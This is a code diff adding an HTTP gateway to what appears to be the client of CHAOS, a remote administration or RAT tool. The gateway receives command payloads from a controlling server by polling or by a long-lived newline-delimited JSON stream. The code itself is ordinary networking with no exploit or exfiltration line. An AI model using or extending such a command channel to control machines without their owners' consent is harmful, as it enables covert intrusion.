@@ -0,0 +1,111 @@
+package gateway
+
+import (
+	"bufio"
+	"bytes"
+	"encoding/json"
+	"fmt"
+	"io"
+	"net/http"
+
+	"github.com/tiagorlampert/CHAOS/client/app/entities"
+)
+
+// streamLineLimit bounds a single Stream line so a malformed or malicious
+// server can't make the scanner buffer without limit.
+const streamLineLimit = 1 << 20 // 1 MiB
+
+// HTTPGateway is the production Gateway: NewRequest and NewRequestWithHeaders
+// round-trip a single *http.Client request, and Stream holds one of its
+// connections open as a chunked, newline-delimited-JSON feed of
+// entities.Payload instead of polling NewRequest on a timer.
+//
+// If Client has a Timeout configured, it also bounds how long a single
+// Stream connection can stay open; once it ends, HandleCommand falls back to
+// polling rather than reconnecting - pass a Timeout-less client, or a
+// dedicated one, if that's undesirable.
+type HTTPGateway struct {
+	Client *http.Client
+}
+
+// NewHTTPGateway wraps client, defaulting to http.DefaultClient if nil.
+func NewHTTPGateway(client *http.Client) *HTTPGateway {
+	if client == nil {
+		client = http.DefaultClient
+	}
+	return &HTTPGateway{Client: client}
+}
+
+func (g *HTTPGateway) NewRequest(method, url string, body []byte) (*Response, error) {
+	return g.NewRequestWithHeaders(method, url, body, nil)
+}
+
+func (g *HTTPGateway) NewRequestWithHeaders(method, url string, body []byte, headers map[string]string) (*Response, error) {
+	req, err := http.NewRequest(method, url, bytes.NewReader(body))
+	if err != nil {
+		return nil, err
+	}
+	for key, value := range headers {
+		req.Header.Set(key, value)
+	}
+
+	res, err := g.Client.Do(req)
+	if err != nil {
+		return nil, err
+	}
+	defer res.Body.Close()
+
+	responseBody, err := io.ReadAll(res.Body)
+	if err != nil {
+		return nil, err
+	}
+	return &Response{StatusCode: res.StatusCode, ResponseBody: responseBody, Header: res.Header}, nil
+}
+
+// Stream opens url as a single long-lived GET and reads the response body as
+// a chunked feed of newline-delimited JSON entities.Payload values, emitting
+// each on the returned channel as it arrives. The channel is closed - ending
+// handleStream's range over it - when the server closes the connection or a
+// line fails to parse, which is the caller's signal to fall back to polling.
+// A 426 response means the server doesn't speak the stream protocol at all,
+// surfaced as *ErrStreamUnsupported instead of opening a channel.
+func (g *HTTPGateway) Stream(url string) (<-chan entities.Payload, error) {
+	req, err := http.NewRequest(http.MethodGet, url, nil)
+	if err != nil {
+		return nil, err
+	}
+
+	res, err := g.Client.Do(req)
+	if err != nil {
+		return nil, err
+	}
+	if res.StatusCode == http.StatusUpgradeRequired {
+		res.Body.Close()
+		return nil, &ErrStreamUnsupported{StatusCode: res.StatusCode}
+	}
+	if res.StatusCode != http.StatusOK {
+		res.Body.Close()
+		return nil, fmt.Errorf("event stream request failed with status code %d", res.StatusCode)
+	}
+
+	payloads := make(chan entities.Payload)
+	go func() {
+		defer res.Body.Close()
+		defer close(payloads)
+
+		scanner := bufio.NewScanner(res.Body)
+		scanner.Buffer(make([]byte, 0, 64*1024), streamLineLimit)
+		for scanner.Scan() {
+			line := bytes.TrimSpace(scanner.Bytes())
+			if len(line) == 0 {
+				continue
+			}
+			var payload entities.Payload
+			if err := json.Unmarshal(line, &payload); err != nil {
+				return
+			}
+			payloads <- payload
+		}
+	}()
+	return payloads, nil
+}